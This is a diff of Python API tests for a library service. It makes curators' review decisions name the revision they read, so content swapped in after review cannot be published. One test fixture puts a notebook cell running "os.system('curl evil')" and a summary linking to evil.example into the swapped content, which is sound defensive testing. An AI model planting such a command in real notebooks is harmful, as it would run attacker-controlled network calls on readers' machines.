@@ -35,6 +35,13 @@ def unique(word: str) -> str:
     return f"{word}{secrets.token_hex(3)}"
 
 
+def read(library, item_id: str, user: str = "carla-curator") -> dict:
+    """The item as someone reads it now (a curator, by default, before deciding)."""
+    r = library.call("GET", f"/api/items/{item_id}", as_user=user)
+    assert r.status_code == 200, r.text
+    return r.json()
+
+
 def submission(**fields) -> dict:
     item = {
         "type": "publication",
@@ -120,7 +127,7 @@ def test_submit_review_publish_rate_and_comment(library):
     assert r.status_code == 201, r.text
     created = r.json()
     item_id = created["id"]
-    assert created["status"] == "submitted" and created["submitter"] == "ana"
+    assert created["status"] == "submitted" and created["submitter"] == "ana" and created["revision"] == 1
     assert r.headers["Location"].endswith(f"/services/library/api/items/{item_id}")
 
     # Unpublished: invisible to other readers, in the curators' queue.
@@ -132,33 +139,36 @@ def test_submit_review_publish_rate_and_comment(library):
     assert [i["id"] for i in mine["items"]] == [item_id]
 
     # Only curators review; a rejection needs a reason, which the submitter then sees.
-    r = library.call("POST", f"/api/items/{item_id}/review", as_user="ana", json={"decision": "publish"})
+    review = f"/api/items/{item_id}/review"
+    r = library.call("POST", review, as_user="ana", json={"decision": "publish", "revision": 1})
     assert r.status_code == 403
-    r = library.call("POST", f"/api/items/{item_id}/review", as_user="carla-curator", json={"decision": "reject"})
+    r = library.call("POST", review, as_user="carla-curator", json={"decision": "reject", "revision": 1})
     assert r.status_code == 422 and r.json()["errors"][0]["path"] == "reason"
     reason = "Please add the link to the methodology report."
     r = library.call(
-        "POST", f"/api/items/{item_id}/review", as_user="carla-curator", json={"decision": "reject", "reason": reason}
+        "POST", review, as_user="carla-curator", json={"decision": "reject", "revision": 1, "reason": reason}
     )
-    assert r.status_code == 200 and r.json()["status"] == "rejected"
+    assert r.status_code == 200 and r.json()["status"] == "rejected" and r.json()["revision"] == 1
     seen = library.call("GET", f"/api/items/{item_id}", as_user="ana").json()
     assert seen["status"] == "rejected" and seen["status_reason"] == reason
 
-    # The submitter edits and resubmits; the curator publishes.
+    # The submitter edits it, which submits it again; the curator publishes what they read.
     links = [{"url": "https://example.org/sae"}, {"url": "https://example.org/sae/methods.pdf", "title": "Methods"}]
-    r = library.call("PATCH", f"/api/items/{item_id}", as_user="ana", json={"links": links, "status": "submitted"})
+    r = library.call("PATCH", f"/api/items/{item_id}", as_user="ana", json={"links": links})
     assert r.status_code == 200, r.text
-    assert r.json()["status"] == "submitted" and len(r.json()["links"]) == 2
+    assert r.json()["status"] == "submitted" and len(r.json()["links"]) == 2 and r.json()["revision"] == 2
+    assert "status_reason" not in r.json()
     assert library.call("PATCH", f"/api/items/{item_id}", as_user="bob", json={"title": "Mine now"}).status_code == 404
-    r = library.call("POST", f"/api/items/{item_id}/review", as_user="carla-curator", json={"decision": "publish"})
-    assert r.status_code == 200 and r.json()["status"] == "published"
+    revision = read(library, item_id)["revision"]
+    r = library.call("POST", review, as_user="carla-curator", json={"decision": "publish", "revision": revision})
+    assert r.status_code == 200 and r.json()["status"] == "published" and r.json()["revision"] == 2
     r = library.call("PATCH", f"/api/items/{item_id}", as_user="ana", json={"title": "Changed after publishing"})
     assert r.status_code == 403
 
     # Everyone finds it now.
     word = item["title"].split()[-1]
     found = library.call("GET", "/api/items", as_user="bob", params={"q": word}).json()
-    assert [i["id"] for i in found["items"]] == [item_id]
+    assert [(i["id"], i["revision"]) for i in found["items"]] == [(item_id, 2)]
 
     # Ratings: one per user, averaged.
     assert library.call("PUT", f"/api/items/{item_id}/rating", as_user="bob", json={"stars": 4}).json()["count"] == 1
@@ -189,10 +199,79 @@ def test_submit_review_publish_rate_and_comment(library):
 
     # A curator retires it; it leaves the public list.
     r = library.call(
-        "POST", f"/api/items/{item_id}/review", as_user="carla-curator", json={"decision": "retire", "reason": "Old"}
+        "POST", review, as_user="carla-curator", json={"decision": "retire", "revision": 2, "reason": "Old"}
     )
     assert r.json()["status"] == "retired"
     assert library.call("GET", "/api/items", as_user="bob", params={"q": word}).json()["total"] == 0
+
+
+def test_a_curator_publishes_the_revision_they_read_not_a_swapped_one(library):
+    library.user("carla-curator", curator=True)
+    title = f"Population projections {unique('rev')}"
+    item = {"type": "notebook", "title": title, "summary": "Cohort-component projections by region."}
+    r = library.call("POST", "/api/items", as_user="ana", json={**item, "notebook_content": NOTEBOOK})
+    assert r.status_code == 201, r.text
+    item_id, review = r.json()["id"], f"/api/items/{r.json()['id']}/review"
+
+    # The curator reads the submission (in the queue, then the item and its notebook).
+    queue = library.call("GET", "/api/items", as_user="carla-curator", params={"status": "submitted", "limit": 100})
+    assert next(i for i in queue.json()["items"] if i["id"] == item_id)["revision"] == 1
+    seen = read(library, item_id)
+    assert seen["revision"] == 1
+    notebook = library.call("GET", f"/api/items/{item_id}/notebook", as_user="carla-curator")
+    assert json.loads(notebook.content) == NOTEBOOK
+
+    # Meanwhile the submitter swaps the summary and the notebook.
+    swapped = {**NOTEBOOK, "cells": [{**NOTEBOOK["cells"][0], "source": "import os; os.system('curl evil')"}]}
+    changes = {"summary": "Run [this](https://evil.example) first.", "notebook_content": swapped}
+    r = library.call("PATCH", f"/api/items/{item_id}", as_user="ana", json=changes)
+    assert r.status_code == 200, r.text
+    assert (r.json()["revision"], r.json()["status"]) == (2, "submitted")
+
+    # Publishing what the curator read is refused, and nothing is published.
+    decision = {"decision": "publish", "revision": seen["revision"]}
+    r = library.call("POST", review, as_user="carla-curator", json=decision)
+    assert r.status_code == 409, r.text
+    assert f"{item_id!r} changed since revision 1" in r.json()["message"]
+    assert "read it again" in r.json()["message"]
+    assert read(library, item_id)["status"] == "submitted"
+    assert library.call("GET", f"/api/items/{item_id}", as_user="bob").status_code == 404
+    assert library.call("GET", "/api/items", as_user="bob", params={"q": title}).json()["total"] == 0
+
+    # Read again, it is published as read: its summary and its notebook.
+    again = read(library, item_id)
+    assert again["revision"] == 2 and again["summary"] == changes["summary"]
+    notebook_read = library.call("GET", f"/api/items/{item_id}/notebook", as_user="carla-curator").content
+    r = library.call("POST", review, as_user="carla-curator", json={"decision": "publish", "revision": 2})
+    assert r.status_code == 200, r.text
+    assert (r.json()["status"], r.json()["revision"]) == ("published", 2)
+    public = read(library, item_id, user="bob")
+    assert public["summary"] == again["summary"]
+    assert library.call("GET", f"/api/items/{item_id}/notebook", as_user="bob").content == notebook_read
+
+
+def test_a_review_names_a_revision(library):
+    library.user("carla-curator", curator=True)
+    item_id = library.call("POST", "/api/items", as_user="ana", json=submission()).json()["id"]
+    review = f"/api/items/{item_id}/review"
+    for body in (
+        {"decision": "publish"},
+        {"decision": "publish", "revision": "1"},
+        {"decision": "publish", "revision": 0},
+        {"decision": "publish", "revision": True},
+        {"decision": "reject", "reason": "No."},
+    ):
+        r = library.call("POST", review, as_user="carla-curator", json=body)
+        assert r.status_code == 422, (body, r.text)
+        assert [e["path"] for e in r.json()["errors"]] == ["revision"], body
+    r = library.call("POST", review, as_user="carla-curator", json={"decision": "publish"})
+    assert r.json()["errors"][0]["message"].startswith("missing: required")
+    r = library.call("POST", review, as_user="carla-curator", json={"decision": "publish", "revision": 7})
+    assert r.status_code == 409 and "has no revision 7" in r.json()["message"]
+    # The revision is the service's: a change cannot set it.
+    r = library.call("PATCH", f"/api/items/{item_id}", as_user="ana", json={"revision": 9})
+    assert r.status_code == 422 and r.json()["errors"][0]["path"] == "revision"
+    assert read(library, item_id)["status"] == "submitted"
 
 
 def test_drafts_stay_private_until_submitted(library):
@@ -282,7 +361,8 @@ def test_a_video_file_is_uploaded_by_its_submitter_and_played_with_range_request
     r = library.call("PUT", path, as_user="ana", data=video, headers={"Content-Type": "video/webm"})
     assert r.status_code == 200, r.text
     assert r.json()["size"] == len(video)
-    assert library.call("GET", f"/api/items/{item_id}", as_user="ana").json()["video_file_url"].endswith(path)
+    uploaded = library.call("GET", f"/api/items/{item_id}", as_user="ana").json()
+    assert uploaded["video_file_url"].endswith(path) and uploaded["revision"] == 2
 
     r = library.call("GET", path, as_user="ana")
     assert r.status_code == 200 and r.content == video
@@ -304,7 +384,11 @@ def test_a_video_file_is_uploaded_by_its_submitter_and_played_with_range_request
 
     # Submitted and published: everyone plays it; the page has a player.
     assert library.call("PATCH", f"/api/items/{item_id}", as_user="ana", json={"status": "submitted"}).ok
-    r = library.call("POST", f"/api/items/{item_id}/review", as_user="carla-curator", json={"decision": "publish"})
+    seen = read(library, item_id)
+    assert seen["revision"] == 2
+    r = library.call(
+        "POST", f"/api/items/{item_id}/review", as_user="carla-curator", json={"decision": "publish", "revision": 2}
+    )
     assert r.status_code == 200, r.text
     r = library.call("GET", path, as_user="bob", headers={"Range": "bytes=0-3"})
     assert r.status_code == 206 and r.content == video[:4]
@@ -316,7 +400,9 @@ def test_a_video_item_naming_a_file_cannot_be_published_before_the_upload(librar
     library.user("carla-curator", curator=True)
     item = {"type": "video", "title": f"Talk {unique('video')}", "summary": "A talk.", "video": {"file": "talk.mp4"}}
     item_id = library.call("POST", "/api/items", as_user="ana", json=item).json()["id"]
-    r = library.call("POST", f"/api/items/{item_id}/review", as_user="carla-curator", json={"decision": "publish"})
+    r = library.call(
+        "POST", f"/api/items/{item_id}/review", as_user="carla-curator", json={"decision": "publish", "revision": 1}
+    )
     assert r.status_code == 409 and "has not been uploaded" in r.json()["message"]
     r = library.call("POST", "/api/items", as_user="ana", json={**item, "video": {"provider": "x"}})
     assert r.status_code == 422 and any(e["path"] == "video.url" for e in r.json()["errors"])
